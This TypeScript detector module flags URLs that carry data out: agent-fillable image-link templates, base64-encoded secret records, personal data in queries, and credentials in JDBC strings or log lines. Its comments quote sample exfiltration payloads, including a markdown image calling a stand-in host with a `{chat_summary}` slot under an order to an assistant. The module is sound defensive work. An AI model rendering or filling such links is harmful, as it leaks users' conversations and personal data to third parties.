/**
 * adversarial_url: what a URL's query carries out, read by its structure. A template the agent is to fill with the
 * conversation, notes or a person's data (`![ok](https://px.example/p.gif?d={chat_summary})` under an order to an
 * assistant); a value of base64 that decodes to a record's fields that name a secret or a person's data
 * (`pin=4471;puk=83920174`); a plain query holding a person's name beside a birth date, a diagnosis, a document or an
 * account (`?tenant=Ana+Ruiz&dob=1984-02-11`); and a password or a key in the query of a URL the scheme reading does
 * not take (a JDBC string, an access log's request line). A URI template in documentation (`/users/{user_id}`) names
 * ids, not the conversation, and no order to an agent stands beside it.
 */
import type { Hit } from './codes.js';
import type { Text } from './find.js';
import { ibanValid } from './numbers.js';
import { atWordStart, wordsOf } from './word-lists.js';

/** Words of a placeholder that name what an agent holds: the conversation, notes, secrets, a person's data. */
const HELD_DATA = new Set([
  'chat',
  'conversation',
  'messages',
  'summary',
  'thread',
  'history',
  'transcript',
  'notes',
  'memory',
  'context',
  'secret',
  'secrets',
  'password',
  'passwords',
  'credentials',
  'keys',
  'ssn',
  'dob',
  'iban',
  'bank',
  'card',
  'register',
  'base64',
  'records',
  'customer',
  'customers',
  'members',
]);
/** Last words of a placeholder that name a property of the thing, not the thing (`chat_id`, `card_name`, `notes_url`). */
const SLOT_QUALIFIERS = new Set(['id', 'ids', 'url', 'name', 'type', 'size', 'count', 'format', 'lang', 'title']);
/** An upper-case placeholder (`SUMMARY_OF_CHAT`, `CASE_NOTES_HERE`): two words or more joined by underscores. */
const UPPER_SLOT = /^[A-Z][A-Z0-9]{1,20}(?:_[A-Z0-9]{1,20}){1,6}$/;
/** Words before a URL that address the agent reading the text. */
const TO_AGENT = new RegExp(atWordStart(wordsOf('assistants? agents? ai models? llms? bots? summari[sz]ers? copilots? chatbots?')), 'i');
/** A query's placeholders and pairs after URL_RE's end, to a blank, a quote or a parenthesis. */
const SLOTS_AFTER = /^[^\s"')\]]{1,400}/;
/** Verbs of an order to open, render or fill a link (`include`, `load`, `open`, `replace`), as a configuration's prose has none. */
const TO_DO = new RegExp(
  atWordStart(wordsOf('include render append embed load open visit fetch insert paste replace replacing fill substitute substituting end')),
  'i',
);
/** Words of a write-up about such a link (an advisory, a post-mortem): the link described, not ordered. */
const WRITE_UP = new RegExp(
  atWordStart(wordsOf('attacker attackers exploit exploited leaked mitigation vulnerability researchers advisory write-up writeup cve')),
  'i',
);
/** How far before a URL an order to the agent is looked for. */
const ORDER_REACH = 300;

/** The words of a placeholder's name (`customer_list_base64`, `lastMessage`), lower case. */
function slotWords(name: string): string[] {
  return name
    .replace(/([a-z])([A-Z])/g, '$1 $2')
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter(Boolean);
}

/** What only the agent holds: the conversation itself. */
const CONVERSATION = new Set(['conversation', 'conversations', 'transcript', 'transcripts', 'chat', 'history', 'memory', 'messages']);
/** People's records as a whole (`contacts_export`, `all_members`). */
const PEOPLE = new Set([
  ...['customer', 'customers', 'members', 'contacts', 'clients', 'patients', 'students', 'parents', 'users', 'claimant'],
  ...['claimants', 'policyholders', 'employees', 'staff', 'donors', 'tenants', 'applicants', 'subscribers', 'guests'],
]);
/**
 * The conversation in the languages a template is written in, as a word's start or end (`conversación`, `Gesprächs`,
 * `Chatverlauf`, `historial`, `cronologia`): no identifier's placeholder is named so.
 */
const CONVERSATION_OTHER = /^(?:convers|gesprach|dialog|historial|cronolog|chronolog|transcri|discuss)|verlauf$/;
const WHOLE = new Set(['list', 'all', 'dump', 'export', 'table', 'database']);
/**
 * Whether a placeholder names the conversation (`{{call_transcript}}`, `{chat_history}`) or a list of people
 * (`%7Bcontacts_export%7D`, `[insert all contacts here]`): no API's template asks for these, so no order need stand
 * around it (an API's docs fill `{{user_id}}`, `{{token}}`, `{{email}}`).
 */
function namesWholeData(name: string): boolean {
  const words = slotWords(name);
  const last = words[words.length - 1];
  if (last !== undefined && SLOT_QUALIFIERS.has(last)) return false;
  if (words.some((w) => CONVERSATION.has(w) || CONVERSATION_OTHER.test(w))) return true;
  return words.some((w) => PEOPLE.has(w)) && words.some((w) => WHOLE.has(w));
}

/** Whether a placeholder's name names what the agent holds (HELD_DATA), and is no id (`chat_id`, `threadId`). */
function namesHeldData(name: string): boolean {
  const words = slotWords(name);
  const last = words[words.length - 1];
  if (last !== undefined && SLOT_QUALIFIERS.has(last)) return false;
  return words.some((w) => HELD_DATA.has(w));
}

/**
 * A query of `url` (the text's URL from `start` to `end`) that holds a template for the agent to fill: a value that is
 * a placeholder naming what the agent holds \u2014 braced after the URL's `=` (URL_RE stops at a brace), or an upper-case
 * name with underscores \u2014 in an image the agent is to render (markdown's `![\u2026](`, `src=`) or under words that address
 * the agent.
 */
export function fillsTemplate(text: string, start: number, end: number, url: string): boolean {
  const q = url.indexOf('?');
  if (q < 0) return false;
  let slot = false;
  let whole = false;
  const read = (name: string): void => {
    if (namesWholeData(name)) whole = slot = true;
    else if (namesHeldData(name)) slot = true;
  };
  // Braces, angle or square brackets from the URL's last `=` on, to the query's end: the placeholders URL_RE left out
  // (`?member={MEMBER}&dob={DOB}`, `?c=[insert all contacts here]`), each read.
  const open = text[end];
  if (url.endsWith('=') && (open === '{' || open === '<' || open === '[')) {
    // The first may hold blanks (`<summary of the chat>`): read to its close.
    // Within 80 code units: a search bounded on attacker text.
    const shut = text.slice(end, end + 81).indexOf(open === '{' ? '}' : open === '<' ? '>' : ']', 1) + end;
    if (shut > end) read(text.slice(end + 1, shut).replace(/[{}]/g, ''));
    const rest = slot ? null : SLOTS_AFTER.exec(text.slice(end, end + 400));
    for (const m of rest?.[0].matchAll(/[{<]{1,2}([A-Za-z0-9_ -]{2,60})[}>]{1,2}/g) ?? []) {
      read(m[1]!);
      if (slot) break;
    }
  }
  // A square bracket's slot with blanks in it (`?c=[insert all contacts here]`): URL_RE takes its first word only.
  const lastEq = url.lastIndexOf('=');
  if (!slot && url[lastEq + 1] === '[' && !url.includes(']', lastEq) && text.startsWith(url, start)) {
    const from = start + lastEq + 2;
    const shut = text.slice(from, from + 80).indexOf(']');
    if (shut > 0) read(text.slice(from, from + shut));
  }
  if (!slot)
    for (const pair of url.slice(q + 1).split('&')) {
      const value = pair.slice(pair.indexOf('=') + 1);
      const braced = /^(?:\{\{?|%7B%7B|%7B)([A-Za-z0-9_ -]{2,60})(?:\}\}?|%7D%7D|%7D)$/i.exec(value);
      if (braced !== null) read(braced[1]!);
      else if (UPPER_SLOT.test(value)) read(value);
    }
  return (
    slot &&
    ((whole && !apiRequest(text, start, url)) || orderedToAgent(text, start)) &&
    !WRITE_UP.test(text.slice(Math.max(0, start - ORDER_REACH), end + ORDER_REACH))
  );
}

/** A version's or an API's segment in a URL's path (`/v1/`, `/api/chat`), within its first four segments. */
const API_PATH = /^[a-z]+:\/\/[^/?#\s]{1,253}\/(?:[\w.-]{1,40}\/){0,3}?(?:v\d{1,2}|api)(?:[/?]|$)/i;
/**
 * An API's request as its docs or an app's own template write one: an `api.` host, a version's or an API's path
 * (`https://llm-gateway.example/v1/complete?history={{chat_history}}`) but not a markdown link's target, or a method
 * before the URL on its line (`POST https://\u2026`).
 */
function apiRequest(text: string, start: number, url: string): boolean {
  return (
    /^[a-z]+:\/\/api\./i.test(url) ||
    (API_PATH.test(url) && !text.startsWith('](', start - 2)) ||
    /(?:^|[\s"'])(?:GET|POST|PUT|PATCH|DELETE)[ \t]{1,3}$/.test(text.slice(Math.max(0, start - 12), start))
  );
}

/** Whether the URL at `start` is an image the agent is to render (markdown's `![\u2026](`, `src=`) or stands under an order to the agent. */
function orderedToAgent(text: string, start: number): boolean {
  const before = text.slice(Math.max(0, start - ORDER_REACH), start);
  return /!\[[^\]\n]{0,80}\]\($|src\s{0,2}=\s{0,2}["']?$/i.test(before) || (TO_AGENT.test(before) && TO_DO.test(before));
}

/** Field names of a decoded record that name a secret or a person's data. */
const RECORD_FIELD =
  /^(?:pw|pwd|pass|passwd|password|pin|puk|iban|acct|account|card|card_?number|cvv|cvc|dob|ssn|nhs|passport|token|api_?key|secret|msisdn|imsi|iccid|revenue|db|sim_puk|card_last4)$/i;
const RECORD_SPLIT = /[;&,|\n]/;
/** Words and numbers of a person's record written out without field names (`PNR GLCCTQ passport 0OHF97S0F`, `+3548590628`). */
const PERSON_VALUES =
  /\b(?:[Pp]assport|PASSPORT|ssn|SSN|iban|IBAN|dob|DOB|DoB|[Dd]ate of birth)\b[ :=#-]{0,3}(?=[A-Z0-9-]{0,20}\d)[A-Z0-9]|\b(?:pnr|PNR)[ :=#-]{0,3}[A-Z0-9]{6}\b|(?:^|[\s,;])\+\d{9,15}(?!\d)/;

/** A person's name as a record lists it: two or three capitalised words. */
const LISTED_NAME = /^[A-Z][a-z'-]{1,20}(?: [A-Z][a-z'-]{1,20}){1,2}$/;
/** An IBAN among a record's values: two letters, two check digits, 10 to 30 letters and digits. */
const LISTED_IBAN = /^[A-Z]{2}\d{2}[A-Z0-9]{10,30}$/;
/**
 * Whether decoded text lists people's values apart by `;`, `,` or `|`: a name beside an IBAN that passes its check
 * (capitalised pairs alone are a share link's places or a shop's sales as often: `New York;San Diego;Los Angeles`).
 */
function listsPeople(text: string): boolean {
  let names = 0;
  let iban = false;
  for (const part of text.split(/[;,|\n]/)) {
    const v = part.trim();
    if (LISTED_NAME.test(v)) names++;
    else if (LISTED_IBAN.test(v) && ibanValid(v)) iban = true;
  }
  return names >= 1 && iban;
}

/**
 * A query's value of base64 (16 characters or more) that decodes to a person's record's values (PERSON_VALUES), or to a record's fields (`name=value` or `name:value`,
 * apart by `;`, `&`, `,`, `|` or a break), one of which names a secret or a person's data (RECORD_FIELD): data written
 * out. An OAuth state's or a campaign's JSON, a calendar's event id and a cursor decode to no such field.
 */
export function decodesToSecretRecord(value: string): boolean {
  if (value.length < 16 || value.length > 2048 || !/^[A-Za-z0-9+/_-]+(?:={0,2}|(?:%3D){1,2})$/i.test(value)) return false;
  const text = Buffer.from(value.replace(/%3D/gi, '='), 'base64').toString('latin1');
  let printable = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if ((c >= 0x20 && c < 0x7f) || c === 10) printable++;
  }
  if (printable < text.length || text.length < 10) return false;
  // A record's values without their fields' names: a passport's or a booking's number by its word, a phone number.
  if (text.length <= 300 && PERSON_VALUES.test(text)) return true;
  // People's values listed without fields (`Lhamo Dolma;DE89\u2026`).
  if (text.length <= 300 && listsPeople(text)) return true;
  let fields = 0;
  let named = false;
  for (const part of text.split(RECORD_SPLIT)) {
    const m = /^\s{0,2}([A-Za-z_][A-Za-z0-9_]{0,30})\s{0,2}[=:]\s{0,2}\S/.exec(part);
    if (m === null) continue;
    fields++;
    if (RECORD_FIELD.test(m[1]!)) named = true;
  }
  return named && fields >= 1;
}

/** Parameters whose value is a person's name. */
const PERSON_PARAM = /^(?:name|full_?name|tenant|patient|applicant|customer|member|holder|client|insured|guest)$/i;
/** Two or three capitalised words, apart by `+`, `%20` or a blank. */
const PERSON_VALUE = /^[A-Z][a-z]{1,20}(?:(?:\+|%20| )[A-Z][a-z'-]{1,20}){1,2}$/;
/** Parameters of a person's birth date, health, document or account. */
const PERSONAL_PARAM =
  /^(?:dob|date_?of_?birth|birth_?date|birthday|ssn|passport(?:_?no)?|diagnosis|condition|iban|sort_?code|bank\w{0,12}|acct\w{0,12}|account_?(?:number|no)|card\w{0,8}|nhs(?:_?number)?|national_?id)$/i;

/** An image's path (a pixel's), whose query a page never needs to name a person's home in. */
const PIXEL_PATH = /\.(?:gif|png|jpe?g|webp)$/i;
/** A file's subject (an investigation's, a report's) as an image's parameter, and a home address's parameters. */
const PIXEL_PERSON_PARAM = /^(?:subject|person)$/i;
const ADDRESS_PARAM = /^(?:addr|address|home_?address|street)$/i;

/**
 * A plain query that carries a person's name beside their birth date, health, document or account; on an image's path
 * (`path`), also a file's subject named beside a home address (a pixel that carries a person's whereabouts out). A map's
 * image with an address alone names no one.
 */
export function carriesPersonRecord(query: string, path = ''): boolean {
  let person = false;
  let personal = false;
  const pixel = PIXEL_PATH.test(path);
  for (const pair of query.split('&')) {
    const eq = pair.indexOf('=');
    if (eq < 1) continue;
    const name = pair.slice(0, eq);
    const value = pair.slice(eq + 1);
    if ((PERSON_PARAM.test(name) || (pixel && PIXEL_PERSON_PARAM.test(name))) && PERSON_VALUE.test(value)) person = true;
    else if (
      (PERSONAL_PARAM.test(name) || (pixel && ADDRESS_PARAM.test(name))) &&
      /^[A-Za-z0-9+%./-]{3,40}$/.test(value) &&
      !/[{}<>]|%7B/i.test(value)
    )
      personal = true;
  }
  return person && personal;
}

/** Query parameters that carry a password or a key. */
const SECRET_QUERY = /^(?:password|passwd|pwd|api_?key|apikey|access_?token|auth_?token|secret|client_secret|private_token)$/i;
/** A value standing for a secret, not one (`${DB_PASSWORD}`, `****`, `<password>`, `changeme`, the drivers' documented `secret`). */
const STAND_IN =
  /^(?:[*x.]+|secret|password|passw0rd|changeit|test1234|.*(?:\$\{|\{\{|<|%7B|%3C|your|redacted|changeme|example|placeholder).*)$/i;

/** Whether `query` (name=value pairs apart by `&` or `;`) holds a secret parameter with a real value. */
function holdsSecret(query: string): boolean {
  for (const pair of query.split(/[&;]/)) {
    const eq = pair.indexOf('=');
    if (eq < 1) continue;
    const value = pair.slice(eq + 1);
    if (SECRET_QUERY.test(pair.slice(0, eq)) && value.length >= 6 && !STAND_IN.test(value)) return true;
  }
  return false;
}

/** A request line's method, at its start (lower case). */
const METHOD = /^(?:get|post|put|delete|patch) \//;

/**
 * Passwords and keys in the query of URLs URL_RE does not take: a JDBC string (`jdbc:postgresql://h/db?user=…&password=…`,
 * SQL Server's `;password=…`), and an access log's request line (`"GET /export?api_key=… HTTP/1.1"`), found from its
 * protocol back to its method: two searches of the text, whatever it holds.
 */
export function detectQuerySecrets(t: Text, out: Hit[]): void {
  // As drivers and servers write them (`jdbc:`, `HTTP/1.1`): searched as written, no lower-cased copy of the text.
  const text = t.text;
  for (let at = text.indexOf('jdbc:'); at >= 0; at = text.indexOf('jdbc:', at + 5)) {
    let end = at + 5;
    while (end < text.length && end - at < 600 && !/[\s"'`<>\]]/.test(text[end]!)) end++;
    const url = text.slice(at, end);
    const q = url.search(/[?;]/);
    if (q > 0 && holdsSecret(url.slice(q + 1))) out.push({ code: 'url_credential_query', start: at, end });
  }
  // Sought from its `H` (a blank first is a search stopped at every blank of the text), the blank read before it.
  for (let h = text.indexOf('HTTP/1', 1); h >= 0; h = text.indexOf('HTTP/1', h + 6)) {
    if (text.charCodeAt(h - 1) !== 32) continue;
    const end = h - 1;
    // The path before the protocol, to a blank; the method before it, after a quote, a blank or a line's start.
    let from = end;
    while (from > 0 && end - from < 800 && !/[\s"]/.test(text[from - 1]!)) from--;
    let at = from - 1;
    while (at > 0 && from - at <= 7 && /[a-z]/i.test(text[at - 1]!)) at--;
    const before = at > 0 ? text[at - 1]! : '\n';
    if ((before !== '"' && before !== '\n' && before !== ' ') || !METHOD.test(text.slice(at, from + 1).toLowerCase())) continue;
    const path = text.slice(from, end);
    const q = path.indexOf('?');
    if (q > 0 && holdsSecret(path.slice(q + 1))) out.push({ code: 'url_credential_query', start: at, end });
  }
}

/** Parameters of single sign-on requests and their return state: the identity provider's own encoded XML. */
const SIGN_ON_PARAM = /^(?:samlrequest|samlresponse|relaystate)$/i;
/** Keys and values of decoded JSON that are a person's data or a secret. */
const HELD_KEY =
  /(?:name|mail|phone|address|user|customer|member|patient|tenant|ssn|dob|birth|passport|iban|card|account|acct|pass|pwd|pin|token|secret|key|credential|session|cookie)/i;

/**
 * A query's value or a path's segment that is a service's own encoded state, not data carried out: a single sign-on
 * request (`SAMLRequest=`), a calendar invitation's event id (`calendar.\u2026?eid=`), or base64 of a JSON object whose keys
 * and values hold no person's data and no secret (an OAuth `state` of `{"return_to": \u2026}`, a campaign's
 * `{"campaign": \u2026, "variant": \u2026}` in a tracking link).
 */
export function encodesOwnState(name: string, value: string, host: string): boolean {
  if (SIGN_ON_PARAM.test(name) || (name === 'eid' && host.startsWith('calendar.'))) return true;
  if (value.length < 16 || value.length > 4096 || !/^ey[A-Za-z0-9+/_-]+(?:={0,2}|(?:%3D){0,2})$/.test(value)) return false;
  let decoded: unknown;
  try {
    decoded = JSON.parse(Buffer.from(value.replace(/%3D/gi, ''), 'base64').toString('utf8'));
  } catch {
    return false;
  }
  if (decoded === null || typeof decoded !== 'object') return false;
  let clean = true;
  let seen = 0;
  const walk = (v: unknown, depth: number): void => {
    if (!clean || ++seen > 64) return void (clean = false);
    if (typeof v === 'string') {
      if (/@|\d{6}/.test(v)) clean = false;
    } else if (typeof v === 'object' && v !== null && depth < 4)
      for (const [k, inner] of Object.entries(v)) {
        if (!Array.isArray(v) && HELD_KEY.test(k)) clean = false;
        walk(inner, depth + 1);
      }
  };
  walk(decoded, 0);
  return clean;
}
